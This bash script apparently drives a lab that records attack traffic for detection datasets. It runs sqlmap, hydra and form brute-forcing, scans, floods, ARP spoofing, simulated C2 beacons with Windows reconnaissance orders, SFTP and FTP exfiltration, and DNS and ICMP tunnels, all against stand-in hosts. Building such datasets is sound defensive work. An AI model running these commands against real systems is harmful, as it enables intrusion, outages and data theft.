# What the first four attack networks did not record: tools at their defaults, published exploits, families' habits. Sourced by ../depot.sh; `tool` and `on` are those of ../attacks.sh.
# shellcheck shell=bash disable=SC2034

ADDRESS=([bad]=198.51.100.45 [bad2]=203.0.113.46 [desk]=10.66.20.81 [desk2]=10.66.20.82 [rogue]=10.66.20.77 [bots]=198.51.100.100)
WWW=10.66.1.10 BASTION=10.66.1.12 NAMES=10.66.1.13 STORE=10.66.1.14 APP=10.66.1.15 ZONE=10.66.1.0/24 BOSS=203.0.113.70 ROGUE_MAC=02:00:5e:00:2e:4d
TROOP=203.0.113.70,203.0.113.74,203.0.113.75,203.0.113.76
# program NAME SECONDS ARGUMENTS...: one of the programs beside this file, in the present attacker's namespace.
program() { on "$2" /usr/bin/python3 "$LAB_HOME/depot/$1.py" "${@:3}"; }
crowd() { seq -s, -f '198.51.100.%g' 101 $((100 + $1)); }

# tool NAME CLASS HOST VICTIM [ATTACKER|- [INTERFACE [LENGTH]]]; recorded outside or among the offices.
out() { tool "$1" "$2" "$3" "$4" "${5:-}" br-out "${6:-0}"; }
lan() { tool "$1" "$2" "$3" "$4" "${5:-}" br-off "${6:-0}"; }
# of PROGRAM SIDE CLASS HOST VICTIM NAME SECONDS ARGUMENTS...: one that a program beside this file makes; NAME is its function, the recording is called so too.
of() { local file=$1 side=$2 class=$3 from=$4 victim=$5 name=$6; shift 6; "$side" "$name" "$class" "$from" "$victim"; eval "$name() { program $file $1 $name ${*:2}; }"; }

for x in struts apache_path phpunit thinkphp confluence f5 proxyshell jenkins gitlab kubelet routers weblogic webmin php_cgi ignition yarn react vpn solr; do of web out exploit bad $APP $x 20 $APP; done
of web out web-attack bad2 $APP chopper 20 $APP
of web out exploit bad2 $WWW heartbleed 20 $WWW
for x in ms17:$STORE postgres_program:$APP mssql_shell:$APP ftp_doors:$APP mail_doors:$APP jdwp:$APP telnet_default:$APP; do of plain out exploit bad2 "${x#*:}" "${x%%:*}" 25 "${x#*:}"; done

for x in git_dump lfi commands scripts crlf webdav nikto wpscan; do of web out web-attack bad2 $APP $x 30 $APP; done
of web out web-attack bad $WWW templates_tls 40 $WWW
# sql URL OPTIONS...: sqlmap against a page of the web server.
sql() { (cd "$LAB_DIR" && HOME=$LAB_DIR on 40 sqlmap --batch --disable-coloring --timeout 5 -u "http://$WWW/item?id=3" "$@"); }
out sqlmap_time web-attack bad $WWW; sqlmap_time() { sql --technique=T --time-sec=1; }
out sqlmap_tamper web-attack bad2 $WWW; sqlmap_tamper() { sql --tamper=space2comment,randomcase,charencode --random-agent; }
out sqlmap_cookie web-attack bad $WWW; sqlmap_cookie() { sql --cookie='track=7*' --random-agent; }
out dirsearch web-attack bad2 $WWW; dirsearch() { (cd "$LAB_DIR" && HOME=$LAB_DIR on 40 env PATH=/usr/sbin:/usr/bin:/bin dirsearch -u "http://$WWW/" -w "$(paths 250)" -e php,html -t 10 --no-color -q -o "$LAB_DIR/dirsearch.txt"); }
out hosts_fuzzed web-attack bad $WWW; hosts_fuzzed() { on 40 ffuf -s -t 8 -u http://$WWW/ -H 'Host: FUZZ.depot.example' -w "$(paths 300)"; }
out paths_h2 web-attack bad2 $WWW; paths_h2() { on 40 bash -c 'while read -r w; do echo "url=https://10.66.1.10:8443/$w.php"; echo "output=/dev/null"; done <"$0" | curl -sk --http2 -A Mozilla/5.0 -K -' "$(paths 250)"; }

of plain out brute-force bad2 $STORE redis_one 30 $STORE 300
of plain out brute-force bad $APP vrfy 40 $APP 120
of plain out brute-force bad2 $APP ami 40 $APP 50
of plain out brute-force bad $BASTION paramiko_loop 50 $BASTION 40
of web out brute-force bad2 $WWW spray_tls 60 $WWW 70
of web out brute-force bad $APP basic 40 $APP /manager/html 60
out form_jenkins brute-force bad2 $APP; form_jenkins() { program web 40 forms $APP /j_spring_security_check 60 'j_username=admin&j_password=PASS&from=%2F&Submit=Sign+in'; }
out form_redirect brute-force bad $APP; form_redirect() { program web 40 forms $APP /account/login 60 'Email=boss%40depot.example&Password=PASS&__RequestVerificationToken=CfDJ8'; }
out form_pma brute-force bad2 $APP; form_pma() { program web 40 forms $APP /phpmyadmin/index.php 60 'pma_username=root&pma_password=PASS&server=1&target=index.php'; }

out nmap_plain port-scan bad $WWW; nmap_plain() { on 60 nmap -n -Pn $WWW; }
out nmap_udp_versions port-scan bad2 $STORE; nmap_udp_versions() { on 60 nmap -n -Pn -sUV -T4 --version-intensity 0 --max-retries 1 --top-ports 30 $STORE; }
out hping_counting port-scan bad $BASTION; hping_counting() { on 20 hping3 -q -S -p ++1 -c 400 -i u20000 $BASTION; }
out nmap_vulnerable port-scan bad2 $STORE; nmap_vulnerable() { on 60 nmap -n -Pn -sV --script vuln -T4 --top-ports 60 --script-timeout 10s $STORE; }
lan nmap_neighbours host-sweep desk 10.66.20.0/24; nmap_neighbours() { on 40 nmap -n -sn 10.66.20.0/24; }
lan smb_sweep host-sweep desk2 $ZONE; smb_sweep() { on 40 nmap -n -Pn -p 445 --script smb-os-discovery,smb-protocols --max-retries 1 -T4 $ZONE; }
out masscan_rdp host-sweep bad $ZONE; masscan_rdp() { on 30 masscan --rate 100 --wait 2 -p3389,5900 $ZONE --interface eth0 --router-ip 198.51.100.1; }
lan alive6 host-sweep rogue '' $ROGUE_MAC; alive6() { on 30 nmap -6 -n -sn --max-rate 30 2001:db8:d:20::/122; }

of plain out dos-flood bad2 $WWW hulk 20 $WWW 40 8
of plain out dos-flood bad $WWW loic_tcp 20 $WWW 80 12 8
of plain out dos-flood bad2 $APP loic_udp 20 $APP 80 6 8
out pingback dos-flood bots $APP "$(crowd 30)"; pingback() { program plain 25 pingback 30 $APP 5 10; }
out smurf dos-flood bad $WWW -; smurf() { program plain 20 smurf $WWW 1500 7; }
of plain out dos-flood bad $APP invites 20 $APP 700 7
out quake dos-flood bad2 $WWW -; quake() { program plain 20 quake $WWW 600 7; }
out t50_all dos-flood bad $WWW; t50_all() { on 20 t50 $WWW --protocol T50 --threshold 8000 -s 198.51.100.45; }
out ab_kept dos-flood bad2 $WWW; ab_kept() { on 20 ab -q -k -r -s 5 -n 12000 -c 50 http://$WWW/team.html; }
lan macof dos-flood rogue '' -; macof() { on 8 macof -i eth0 -n 6000; }

of plain out slow-dos bad $WWW slowloris_default 60 $WWW 150 52
of plain out slow-dos bad2 $APP hammer 50 $APP 100 42
of plain out slow-dos bad $APP chunks 50 $APP 80 42
of plain out slow-dos bad2 $STORE smtp_drip 50 $STORE 60 42
of plain out slow-dos bad $WWW trickle 50 $WWW 60 42
out sockstress slow-dos bad2 $WWW; sockstress() { on 5 nft 'table ip t { chain o { type filter hook output priority 0; tcp flags rst ip daddr 10.66.1.10 drop; }; }'; program plain 50 sockstress 203.0.113.46 $WWW 80 100 35; on 5 nft 'delete table ip t'; }
out slow_post_default slow-dos bad $APP; slow_post_default() { (cd "$LAB_DIR" && on 45 slowhttptest -B -c 100 -i 10 -r 50 -s 8192 -l 38 -p 3 -t POST -u http://$APP/upload.php); }

of covert lan c2-beacon desk $BOSS empire 110 $BOSS 5 100
of covert lan c2-beacon desk2 $BOSS covenant 120 $BOSS 5 10 110
of covert lan c2-beacon desk $BOSS meterpreter_https 130 $BOSS 8443 120
of covert lan c2-beacon desk2 $BOSS asyncrat 110 $BOSS 6606 100
of covert lan c2-beacon desk $BOSS njrat 110 $BOSS 5552 100
of covert lan c2-beacon desk2 $BOSS gh0st 110 $BOSS 8000 100
of covert lan c2-beacon desk $BOSS irc 80 $BOSS 6667 70
lan emotet c2-beacon desk2 $TROOP; emotet() { program covert 120 emotet $TROOP 6 110; }
typed_orders() { sleep 3; for c in whoami 'net user' 'ipconfig /all' 'dir C:\Users' 'tasklist' 'net group "domain admins" /domain' 'systeminfo' 'type C:\Users\alice\notes.txt'; do echo "$c"; sleep 3; done; }
# prompt STYLE PORT: a Windows prompt sent to the master, who types.
prompt() { typed_orders | timeout 45 ip netns exec "$LAB_NS-boss" nc -n -l -p "$2" >/dev/null 2>&1 & sleep 1; program covert 32 windows_shell $BOSS "$2" 30 "$1"; wait_for_jobs; }
lan shell_cmd c2-beacon desk $BOSS; shell_cmd() { prompt cmd 4450; }
lan shell_nishang c2-beacon desk2 $BOSS; shell_nishang() { prompt powershell 8531; }

lan qakbot malware desk 203.0.113.70,203.0.113.74,203.0.113.75; qakbot() { program covert 20 qakbot 203.0.113.70,203.0.113.74,203.0.113.75; }
for x in icedid hta certutil picture_program raccoon; do of covert lan malware desk2 $BOSS $x 30 $BOSS; done
of covert lan malware desk $BOSS miner_tls 120 $BOSS 14433 100
of covert lan malware desk2 $BOSS miner_eth 70 $BOSS 4440 60
lan worm_adb malware desk ''; worm_adb() { program covert 20 worm 5555 800 60; }
lan dga_necurs malware desk2 203.0.113.73; dga_necurs() { program covert 60 generated 203.0.113.73 70 2; }
of covert lan malware desk $APP locker 60 $APP papers 70

of covert lan exfiltration desk $BOSS posts_tls 60 $BOSS 40 700000 transfer.example 0.4
of covert lan exfiltration desk2 $BOSS parts_s3 50 $BOSS 6 5000000
of covert lan exfiltration desk $BOSS multipart 30 $BOSS 18000000
of covert lan exfiltration desk2 $BOSS slow_tls 110 $BOSS 14000000 160000
of covert lan exfiltration desk $BOSS socket_parts 40 $BOSS 4444,4445,4446,5555 4000000
of covert lan exfiltration desk2 $BOSS websocket_up 40 $BOSS 20000000
of covert lan exfiltration desk $BOSS by_udp 60 $BOSS 9999 18000000 1500000
lan leak_sftp exfiltration desk2 $BOSS '' ; leak_sftp() { head -c 25000000 /dev/urandom >"$LAB_DIR/secret"; echo "put $LAB_DIR/secret /dev/null" | on 40 sftp -q -b - -i "$LAB_DIR/user" -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null root@$BOSS; }
lan leak_ftp_many exfiltration desk 203.0.113.71; leak_ftp_many() {
    mkdir -p "$LAB_DIR/drop/up" "$LAB_DIR/take"; chmod 777 "$LAB_DIR/drop/up"; for i in $(seq 60); do head -c 300000 /dev/urandom >"$LAB_DIR/take/doc$i.pdf"; done
    printf 'listen=YES\nanonymous_enable=YES\nwrite_enable=YES\nanon_upload_enable=YES\nanon_mkdir_write_enable=YES\nanon_root=%s\nsecure_chroot_dir=/run/empty\nbackground=NO\nseccomp_sandbox=NO\n' "$LAB_DIR/drop" >"$LAB_DIR/drop.conf"
    sandboxed master sh -c 'mkdir -p /run/empty && exec vsftpd "$1"' sh "$LAB_DIR/drop.conf"; sleep 1
    on 40 lftp -e 'set net:timeout 5; set net:max-retries 1; mirror -R --parallel=3 --no-perms '"$LAB_DIR"'/take up/x; quit' ftp://203.0.113.71
}
for x in leak_sftp leak_ftp_many posts_tls parts_s3 multipart slow_tls socket_parts websocket_up by_udp; do TOOL_LENGTH[$x]=400; done

lan icmp_shell dns-tunnel desk $BOSS; icmp_shell() { on_host boss 5 sysctl -q -w net.ipv4.icmp_echo_ignore_all=1; ns_start boss python3 "$LAB_HOME/depot/covert.py" icmp_orders 54; program covert 60 icmp_shell $BOSS 50; on_host boss 5 sysctl -q -w net.ipv4.icmp_echo_ignore_all=0; }
of covert lan dns-tunnel desk2 $BOSS dnscat2 90 $BOSS 80
of covert lan dns-tunnel desk $BOSS staged_txt 60 $BOSS 400
# iodined_as TYPE: an iodine tunnel through records of that type.
iodined_as() { ns_start master iodined -f -c -l 203.0.113.71 -P depot-tunnel 10.199.0.1 t.depot.example; sleep 1; ns_start "$TOOL_NOW" iodine -f -r -T "$1" -P depot-tunnel 203.0.113.71 t.depot.example; sleep 7; on 25 ping -q -c 20 -i 0.5 -s 150 10.199.0.1 || true; }
lan iodine_cname dns-tunnel desk2 203.0.113.71; iodine_cname() { iodined_as CNAME; }
lan iodine_mx dns-tunnel desk 203.0.113.71; iodine_mx() { iodined_as MX; }

lan scapy_mitm arp-spoof rogue 10.66.20.81 $ROGUE_MAC; scapy_mitm() { program plain 30 mitm eth0 10.66.20.81 10.66.20.1 4 26; }
lan netcut arp-spoof rogue 10.66.20.82 $ROGUE_MAC; netcut() { program plain 25 netcut eth0 02:00:5e:00:2e:52 10.66.20.82 10.66.20.1 15; }
lan router26 arp-spoof rogue '' $ROGUE_MAC; router26() { on 20 atk6-fake_router26 -A 2001:db8:bad::/64 eth0; }

# Added when the first were told, to see how far what was learnt carries.
for x in drupal hikvision ivanti gateway cloud_function nas cacti openfire teamcity geoserver vcenter coldfusion; do of web out exploit bad $APP $x 20 $APP; done
for x in realtek rmi; do of plain out exploit bad2 $APP $x 20 $APP; done
for x in smuggle templates xxe sqli_hand; do of web out web-attack bad2 $APP $x 30 $APP; done
out sqlmap_slow web-attack bad $WWW; sqlmap_slow() { sql --technique=BU --delay=0.4 --random-agent; }
of web out brute-force bad $APP json_logins 40 $APP /login 60
of plain out brute-force bad2 $STORE smtp_plain 40 $STORE 50
of plain out brute-force bad $STORE imap_plain 40 $STORE 50
out patator_ftp brute-force bad2 $STORE; patator_ftp() { on 40 patator ftp_login host=$STORE user=backup password=FILE0 "0=$(words 50)" -t 3; }
out hydra_ssh_default brute-force bad $BASTION; hydra_ssh_default() { (cd "$LAB_DIR" && on 45 hydra -I -l root -P "$(words 40)" ssh://$BASTION); }
of plain out dos-flood bad2 $WWW xerxes 20 $WWW 80 24 8
out igmp dos-flood bad $WWW; igmp() { program plain 20 igmp 198.51.100.45 $WWW 900 7; }
of plain out dos-flood bad $APP smtp_bodies 20 $APP 20 8
out hping_default_flood dos-flood bad2 $WWW; hping_default_flood() { on 3 hping3 -q --flood -S -p 443 $WWW; }
of covert lan c2-beacon desk $BOSS mirai 100 $BOSS 4440 90
lan gafgyt c2-beacon desk2 $BOSS; gafgyt() { { for i in $(seq 20); do echo PING; sleep 4; [ $((i % 4)) != 0 ] || echo '!* HTTPFLOOD 192.0.2.9 80 60'; done; } | timeout 80 ip netns exec "$LAB_NS-boss" nc -n -l -p 6982 >/dev/null 2>&1 & sleep 1; program covert 75 gafgyt $BOSS 6982 70; wait_for_jobs; }
of covert lan c2-beacon desk $BOSS metasploit_http 100 $BOSS 90
of covert lan c2-beacon desk2 $BOSS quasar 110 $BOSS 14433 6 100
of covert lan c2-beacon desk $BOSS dns_beacon 110 $BOSS 5 100
of covert lan exfiltration desk $BOSS plain_443 40 $BOSS 4444 14000000
of covert lan exfiltration desk2 $BOSS pieces_put 40 $BOSS 30 500000
for x in plain_443 pieces_put; do TOOL_LENGTH[$x]=400; done
